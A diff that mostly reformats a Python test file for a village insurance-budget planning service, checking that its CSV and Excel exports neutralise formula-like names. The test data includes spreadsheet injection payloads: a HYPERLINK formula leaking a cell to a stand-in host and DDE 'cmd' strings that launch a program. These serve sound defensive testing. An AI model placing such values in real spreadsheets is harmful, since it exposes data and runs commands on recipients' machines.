@@ -26,31 +26,47 @@ from fastapi.testclient import TestClient
 from scenarios.safe_cells import FORMULA_STARTS
 
 DESAPLAN = str(Path(sys.executable).parent / "desaplan")
-NAMES = ['=HYPERLINK("http://example.invalid/?"&A1,"klik")', "+1+cmd|' /C calc'!A0", "-2+3",
-         "@SUM(A1:A9)", "=1+1", "-Desa"]
+NAMES = [
+    '=HYPERLINK("http://example.invalid/?"&A1,"klik")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "=1+1",
+    "-Desa",
+]
 KECAMATAN = ["=KECAMATAN()", "-Babelan", "+Tambun"]
 KABUPATEN = ["@Bekasi", "=Karawang"]
 SCENARIO: dict[str, Any] = {
     "name": "=cmd|' /C calc'!A0",
-    "packages": [{"code": "-JKK", "monthly_premium_idr": 16800},
-                 {"code": "JKK-JKM-JHT", "monthly_premium_idr": 36800, "value": 1.3}],
+    "packages": [
+        {"code": "-JKK", "monthly_premium_idr": 16800},
+        {"code": "JKK-JKM-JHT", "monthly_premium_idr": 36800, "value": 1.3},
+    ],
     "budget": {"dana_desa_share": 0.03, "apbd_pool_idr": {k: 100_000_000 for k in KABUPATEN}},
     "targets": {"min_coverage": 0.05},
 }
-SHORT: dict[str, Any] = {**SCENARIO, "name": "+short",
-                         "budget": {"dana_desa_share": 0.001}, "targets": {"min_coverage": 0.9}}
+SHORT: dict[str, Any] = {
+    **SCENARIO,
+    "name": "+short",
+    "budget": {"dana_desa_share": 0.001},
+    "targets": {"min_coverage": 0.9},
+}
 SUBTOTAL = re.compile(r"^=SUBTOTAL\(109,[A-Z]+\d+:[A-Z]+\d+\)$")
 
 
 def _villages_csv() -> bytes:
-    lines = ["village_code,village_name,kecamatan,kabupaten,dana_desa_idr,add_idr,"
-             "uninsured_farmers,uninsured_fishers"]
+    lines = [
+        "village_code,village_name,kecamatan,kabupaten,dana_desa_idr,add_idr,"
+        "uninsured_farmers,uninsured_fishers"
+    ]
     for i, name in enumerate(NAMES):
         kabupaten = KABUPATEN[i % 2]
         code = f"32.{16 + i % 2}.0{1 + i % 3}.{2001 + i}"
         quoted = '"' + name.replace('"', '""') + '"'
-        lines.append(f"{code},{quoted},{KECAMATAN[i % 3]},{kabupaten},{1_500_000_000 + i},"
-                     f"{500_000_000},{300 + 10 * i},{40 + i}")
+        lines.append(
+            f"{code},{quoted},{KECAMATAN[i % 3]},{kabupaten},{1_500_000_000 + i},"
+            f"{500_000_000},{300 + 10 * i},{40 + i}"
+        )
     return ("\n".join(lines) + "\n").encode()
 
 
@@ -130,8 +146,7 @@ class Files:
         assert response.status_code == 200, (name, response.text[:500])
         self.files[name] = response.content
 
-    def post(self, client: TestClient, name: str, url: str, body: dict[str, Any],
-             **params: Any) -> None:
+    def post(self, client: TestClient, name: str, url: str, body: dict[str, Any], **params: Any) -> None:
         response = client.post(url, params=params, json=body)
         assert response.status_code == 200, (name, response.text[:500])
         self.files[name] = response.content
@@ -145,16 +160,22 @@ def _created(response: Any) -> dict[str, Any]:
 
 def _service_files(client: TestClient) -> dict[str, bytes]:
     files = Files()
-    dataset = _created(client.post("/datasets",
-                                   files={"file": ("desa.csv", _villages_csv(), "text/csv")}))
-    scenario = _created(client.post("/scenarios", json={"dataset_id": dataset["id"],
-                                                        "scenario": SCENARIO}))
-    other = _created(client.post("/scenarios", json={
-        "dataset_id": dataset["id"],
-        "scenario": {**SCENARIO, "name": "@other", "budget": {**SCENARIO["budget"],
-                                                                "dana_desa_share": 0.01}}}))
-    short = _created(client.post("/scenarios", json={"dataset_id": dataset["id"],
-                                                     "scenario": SHORT}))
+    dataset = _created(client.post("/datasets", files={"file": ("desa.csv", _villages_csv(), "text/csv")}))
+    scenario = _created(client.post("/scenarios", json={"dataset_id": dataset["id"], "scenario": SCENARIO}))
+    other = _created(
+        client.post(
+            "/scenarios",
+            json={
+                "dataset_id": dataset["id"],
+                "scenario": {
+                    **SCENARIO,
+                    "name": "@other",
+                    "budget": {**SCENARIO["budget"], "dana_desa_share": 0.01},
+                },
+            },
+        )
+    )
+    short = _created(client.post("/scenarios", json={"dataset_id": dataset["id"], "scenario": SHORT}))
     plan = _created(client.post("/solves", json={"scenario_id": scenario["id"]}))
     other_plan = _created(client.post("/solves", json={"scenario_id": other["id"]}))
     short_plan = _created(client.post("/solves", json={"scenario_id": short["id"]}))
@@ -164,38 +185,51 @@ def _service_files(client: TestClient) -> dict[str, bytes]:
         files.get(client, f"dataset.{fmt}", f"/datasets/{dataset['id']}/download", format=fmt)
         files.get(client, f"targets.{fmt}", f"/plans/{plan['id']}/targets", format=fmt)
         for lang in ("id", "en"):
-            files.get(client, f"targets_{lang}.{fmt}", f"/plans/{plan['id']}/targets",
-                      format=fmt, lang=lang)
-        files.get(client, f"shortfalls.{fmt}", f"/plans/{short_plan['id']}/shortfalls",
-                  format=fmt)
-        files.post(client, f"curve.{fmt}", "/sweeps", {
-            "scenario_id": scenario["id"], "lever": "dana_desa_share", "values": [0.01, 0.05]},
-            format=fmt)
-        files.post(client, f"fairness.{fmt}", "/fairness", {"scenario_id": scenario["id"]},
-                   format=fmt)
-    files.get(client, "targets_excel_id.csv", f"/plans/{plan['id']}/targets", format="csv",
-              csv="excel-id")
+            files.get(client, f"targets_{lang}.{fmt}", f"/plans/{plan['id']}/targets", format=fmt, lang=lang)
+        files.get(client, f"shortfalls.{fmt}", f"/plans/{short_plan['id']}/shortfalls", format=fmt)
+        files.post(
+            client,
+            f"curve.{fmt}",
+            "/sweeps",
+            {"scenario_id": scenario["id"], "lever": "dana_desa_share", "values": [0.01, 0.05]},
+            format=fmt,
+        )
+        files.post(client, f"fairness.{fmt}", "/fairness", {"scenario_id": scenario["id"]}, format=fmt)
+    files.get(client, "targets_excel_id.csv", f"/plans/{plan['id']}/targets", format="csv", csv="excel-id")
     for split in ("kecamatan", "kabupaten"):
         for lang in ("id", "en"):
-            files.get(client, f"targets_{split}_{lang}.zip", f"/plans/{plan['id']}/targets",
-                      format="xlsx", split=split, lang=lang)
+            files.get(
+                client,
+                f"targets_{split}_{lang}.zip",
+                f"/plans/{plan['id']}/targets",
+                format="xlsx",
+                split=split,
+                lang=lang,
+            )
     files.get(client, "marginals.xlsx", f"/plans/{plan['id']}/marginals", format="xlsx")
     for table in ("top", "villages", "kecamatan", "pools"):
-        files.get(client, f"marginals_{table}.csv", f"/plans/{plan['id']}/marginals",
-                  format="csv", table=table)
-    comparison = _created(client.post("/comparisons", json={
-        "baseline_plan_id": plan["id"], "plan_ids": [other_plan["id"]]}))
+        files.get(
+            client, f"marginals_{table}.csv", f"/plans/{plan['id']}/marginals", format="csv", table=table
+        )
+    comparison = _created(
+        client.post("/comparisons", json={"baseline_plan_id": plan["id"], "plan_ids": [other_plan["id"]]})
+    )
     url = f"/comparisons/{comparison['id']}"
     for table in ("totals", "kecamatan", "villages", "gainers", "losers"):
         files.get(client, f"comparison_{table}.csv", url, format="csv", table=table)
-        files.get(client, f"comparison_{table}_id.csv", url, format="csv", table=table, lang="id",
-                  csv="excel-id")
+        files.get(
+            client, f"comparison_{table}_id.csv", url, format="csv", table=table, lang="id", csv="excel-id"
+        )
     files.get(client, "comparison.xlsx", url, format="xlsx")
     for lang in ("id", "en"):
         files.get(client, f"comparison_{lang}.xlsx", url, format="xlsx", lang=lang)
-    actuals = _created(client.post(f"/plans/{plan['id']}/actuals",
-                                   files={"file": ("laporan.csv", _actuals_csv(), "text/csv")},
-                                   data={"start": "2026-01"}))
+    actuals = _created(
+        client.post(
+            f"/plans/{plan['id']}/actuals",
+            files={"file": ("laporan.csv", _actuals_csv(), "text/csv")},
+            data={"start": "2026-01"},
+        )
+    )
     for table in ("villages", "kecamatan", "sources"):
         files.get(client, f"actuals_{table}.csv", f"/actuals/{actuals['id']}.csv", table=table)
     for lang in ("id", "en"):
@@ -204,9 +238,21 @@ def _service_files(client: TestClient) -> dict[str, bytes]:
 
 
 # the files where the table's names are written: each must show the quote at work
-NAMED = ("dataset", "targets", "shortfalls", "fairness.xlsx", "comparison_villages", "comparison.xlsx",
-         "comparison_id", "comparison_en", "marginals.xlsx", "marginals_villages", "actuals_villages",
-         "actuals_id", "actuals_en")
+NAMED = (
+    "dataset",
+    "targets",
+    "shortfalls",
+    "fairness.xlsx",
+    "comparison_villages",
+    "comparison.xlsx",
+    "comparison_id",
+    "comparison_en",
+    "marginals.xlsx",
+    "marginals_villages",
+    "actuals_villages",
+    "actuals_id",
+    "actuals_en",
+)
 
 
 def _assert_safe(files: dict[str, bytes]) -> None:
@@ -229,14 +275,12 @@ def test_every_file_of_the_service_quotes_formula_like_names(empty_client: TestC
 
 
 def _run(*args: str | Path) -> None:
-    result = subprocess.run([DESAPLAN, *map(str, args)], capture_output=True, text=True,
-                            timeout=600)
+    result = subprocess.run([DESAPLAN, *map(str, args)], capture_output=True, text=True, timeout=600)
     assert result.returncode in (0, 3), result.stderr  # 3: the short scenario is infeasible
 
 
 @pytest.mark.parametrize("lang", [None, "id"])
-def test_every_file_of_the_commands_quotes_formula_like_names(tmp_path: Path,
-                                                              lang: str | None) -> None:
+def test_every_file_of_the_commands_quotes_formula_like_names(tmp_path: Path, lang: str | None) -> None:
     villages = tmp_path / "desa.csv"
     villages.write_bytes(_villages_csv())
     scenario, short = tmp_path / "scenario.json", tmp_path / "short.json"
@@ -248,19 +292,54 @@ def test_every_file_of_the_commands_quotes_formula_like_names(tmp_path: Path,
     common = ["--villages", villages, "--scenario", scenario]
 
     _run("solve", *common, "--out", tmp_path / "solve", "--quiet", *chosen)
-    _run("solve", "--villages", villages, "--scenario", short, "--out", tmp_path / "short",
-         "--quiet", *chosen)
-    _run("sweep", *common, "--out", tmp_path / "sweep", "--lever", "dana_desa_share",
-         "--values", "0.01,0.05", *chosen)
+    _run(
+        "solve", "--villages", villages, "--scenario", short, "--out", tmp_path / "short", "--quiet", *chosen
+    )
+    _run(
+        "sweep",
+        *common,
+        "--out",
+        tmp_path / "sweep",
+        "--lever",
+        "dana_desa_share",
+        "--values",
+        "0.01,0.05",
+        *chosen,
+    )
     _run("marginals", *common, "--out", tmp_path / "marginals", *chosen)
     _run("fairness", *common, "--out", tmp_path / "fairness", *chosen)
-    _run("actuals", *common, "--plan", tmp_path / "solve" / "plan.json", "--actuals", actuals,
-         "--start", "2026-01", "--out", tmp_path / "actuals", *chosen)
-    _run("replan", *common, "--plan", tmp_path / "solve" / "plan.json", "--actuals", actuals,
-         "--start", "2026-01", "--out", tmp_path / "replan", *chosen)
+    _run(
+        "actuals",
+        *common,
+        "--plan",
+        tmp_path / "solve" / "plan.json",
+        "--actuals",
+        actuals,
+        "--start",
+        "2026-01",
+        "--out",
+        tmp_path / "actuals",
+        *chosen,
+    )
+    _run(
+        "replan",
+        *common,
+        "--plan",
+        tmp_path / "solve" / "plan.json",
+        "--actuals",
+        actuals,
+        "--start",
+        "2026-01",
+        "--out",
+        tmp_path / "replan",
+        *chosen,
+    )
 
-    written = {str(path.relative_to(tmp_path)): path.read_bytes()
-               for path in sorted(tmp_path.glob("*/*")) if path.suffix in (".csv", ".xlsx", ".zip")}
+    written = {
+        str(path.relative_to(tmp_path)): path.read_bytes()
+        for path in sorted(tmp_path.glob("*/*"))
+        if path.suffix in (".csv", ".xlsx", ".zip")
+    }
     assert {"solve/targets.csv", "solve/targets.xlsx", "short/infeasible.xlsx"} <= set(written)
     problems: list[str] = []
     for name, content in written.items():
